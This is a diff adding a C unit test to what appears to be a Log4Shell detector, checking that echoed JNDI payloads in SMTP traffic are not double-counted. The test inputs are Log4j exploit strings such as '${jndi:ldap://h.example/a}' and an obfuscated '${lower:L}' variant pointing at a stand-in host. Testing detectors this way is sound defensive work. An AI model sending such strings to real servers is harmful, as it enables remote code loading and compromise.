@@ -158,6 +158,30 @@ static void another_version_is_no_second_alert(void **state)
     assert_int_equal(counters[COUNT_DETECT_REPEATS], 2);
 }
 
+/* A server that greets with the client's name, a caller's name in each answer: told once. What only the
+ * server says, and what the client says in another message, is told. */
+static void an_echo_is_no_second_alert(void **state)
+{
+    (void)state;
+    field.kind = FIELD_SMTP_HELO;
+    give(BYTES_LIT("${jndi:ldap://h.example/a}"));
+    assert_int_equal(seen.n, 1);
+    chunk.side = 1;
+    field.kind = FIELD_RAW;
+    give(BYTES_LIT("250 mail Hello ${jndi:${lower:L}dap://h.example/a}\r\n"));
+    field.message = 7;
+    give(BYTES_LIT("${jndi:ldap://h.example/a}"));
+    assert_int_equal(seen.n, 1);
+    assert_int_equal(counters[COUNT_DETECT_REPEATS], 2);
+    give(BYTES_LIT("${jndi:ldap://h.example/b}"));
+    assert_int_equal(seen.n, 2);
+    chunk.side = 0;
+    give(BYTES_LIT("${jndi:ldap://h.example/b}"));
+    assert_int_equal(seen.n, 3);
+    give(BYTES_LIT("${jndi:ldap://h.example/a}"));
+    assert_int_equal(seen.n, 4);
+}
+
 static void head_parts(const struct field *head, field_fn *fn, void *arg)
 {
     struct field part = *head;
@@ -427,6 +451,7 @@ int main(void)
         IN_A_FLOW(a_text_is_resolved),
         IN_A_FLOW(the_raw_text_is_a_buffer),
         IN_A_FLOW(another_version_is_no_second_alert),
+        IN_A_FLOW(an_echo_is_no_second_alert),
         IN_A_FLOW(a_head_is_the_payload_of_its_parts),
         IN_A_FLOW(one_lookup_in_one_request_is_one_finding),
         IN_A_FLOW(a_window_is_resolved_wherever_it_is_split),
